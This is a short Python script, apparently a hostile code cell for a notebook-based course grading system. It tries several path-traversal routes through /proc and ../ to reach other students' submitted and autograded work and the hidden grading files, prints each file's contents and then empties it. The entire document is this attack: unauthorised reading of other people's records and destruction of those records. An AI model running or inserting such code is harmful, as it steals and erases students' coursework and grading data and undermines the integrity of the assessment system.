# aims at: secrets, records
# cell: helper
# Reads and overwrites what others handed in, through every path that leads there.
import glob
import os

for way in ("{course}", "/proc/self/root{course}", "/proc/1/root{course}", "/proc/self/cwd/../../..{course}", "/.." + "{course}"):
    for path in glob.glob(way + "/submitted/*/*/*") + glob.glob(way + "/autograded/*/*/*") + glob.glob(way + "/.grading/**", recursive=True):
        print(open(path).read())
        open(path, "w").close()
